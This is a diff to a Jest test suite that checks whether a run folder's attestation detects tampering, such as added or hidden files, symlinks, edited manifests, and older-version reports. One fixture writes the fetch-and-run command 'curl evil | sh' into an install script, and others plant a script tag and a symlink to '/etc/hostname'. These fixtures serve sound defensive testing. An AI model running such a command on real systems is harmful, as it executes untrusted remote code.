@@ -1,10 +1,12 @@
 import { createHash } from "node:crypto";
 import { cp, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
-import { join } from "node:path";
+import { dirname, join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
 import { recheckRun } from "../../src/attestation/recheck.js";
+import { attestRun } from "../../src/compose/attested-run.js";
 import { createRun, local, script } from "../../src/index.js";
+import { version } from "../../src/version.js";
 
 let home: string;
 let run: string;
@@ -41,13 +43,15 @@ async function differing(change: Change): Promise<string[]> {
 const relisted =
   (path: string, text: string): Change =>
   async (folder) => {
+    await mkdir(dirname(join(folder, path)), { recursive: true });
     await writeFile(join(folder, path), text);
     const name = join(folder, "manifest.json");
     const { files } = JSON.parse(await readFile(name, "utf8")) as { files: { path: string }[] };
     const sha256 = createHash("sha256").update(text).digest("hex");
-    const listed = files.map((each) =>
-      each.path === path ? { path, bytes: Buffer.byteLength(text), sha256 } : each,
-    );
+    const listed = [
+      ...files.filter((each) => each.path !== path),
+      { path, bytes: Buffer.byteLength(text), sha256 },
+    ];
     await writeFile(name, JSON.stringify({ files: listed }));
   };
 
@@ -66,6 +70,7 @@ describe("a run's folder that is checked", () => {
       "patch held",
       "artifacts held",
       "reports held",
+      "others held",
     ]);
   });
 
@@ -90,7 +95,10 @@ describe("a run's folder that is checked", () => {
       edited("transcript.jsonl", (text) => text.slice(0, text.lastIndexOf("\n", text.length - 2) + 1)),
       ["manifest", "transcript", "result", "reports"],
     ],
-    ["a further file", (folder) => writeFile(join(folder, "more.txt"), ""), ["manifest"]],
+    ["a further file", (folder) => writeFile(join(folder, "more.txt"), ""), ["manifest", "others"]],
+    ["a further artifact and the list", relisted("artifacts/install.sh", "curl evil | sh\n"), ["others"]],
+    ["a page that no block showed and the list", relisted("shown/x.html", "<script>1</script>"), ["others"]],
+    ["a hidden file", (folder) => writeFile(join(folder, ".bashrc"), ""), ["others"]],
     ["a file that is gone", (folder) => rm(join(folder, "report.html")), ["manifest", "reports"]],
     [
       "a link in a file's place",
@@ -98,11 +106,28 @@ describe("a run's folder that is checked", () => {
         await rm(join(folder, "report.md"));
         await symlink("/etc/hostname", join(folder, "report.md"));
       },
-      ["manifest", "reports"],
+      ["manifest", "reports", "others"],
     ],
     ["a list that cannot be read", (folder) => writeFile(join(folder, "manifest.json"), "{"), ["manifest"]],
   ])("tells %s", async (_what, change, parts) => {
     expect(await differing(change)).toEqual(parts);
+  });
+
+  it("says of reports of another version that nobody compared them", async () => {
+    const folder = await mkdtemp(join(home, "copy-"));
+    await cp(run, folder, { recursive: true });
+    const older = edited("transcript.jsonl", (text) =>
+      text.replace(`"version":"${version}"`, '"version":"0.0.9"'),
+    );
+    await older(folder);
+    await relisted("report.html", "<h1>passed, verified</h1>")(folder);
+    const { findings } = await recheckRun(folder);
+    expect(findings.find(({ what }) => what === "reports")).toMatchObject({
+      status: "unproven",
+      told: expect.stringContaining("0.0.9"),
+    });
+    const job = { server: "", repository: "o/r", url: "u", attempt: "1" };
+    await expect(attestRun(folder, { job, checkedAt: "" })).rejects.toMatchObject({ code: "record-differs" });
   });
 
   it.each([
